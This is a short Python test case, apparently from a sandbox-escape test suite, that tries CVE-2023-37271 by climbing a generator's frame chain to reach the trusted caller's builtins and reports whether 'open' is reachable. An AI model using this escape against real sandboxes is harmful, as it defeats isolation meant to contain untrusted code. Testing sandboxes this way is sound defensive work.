# tries: CVE-2023-37271, a generator's frame leads to the frames and the builtins of the trusted caller
# layer: language
def run(ctx, params):
    def steps():
        yield generator.gi_frame.f_back.f_back.f_builtins

    generator = steps()
    builtins = [found for found in generator][0]
    return f"ESCAPED: {len(builtins)} builtins, open is {builtins['open']}"
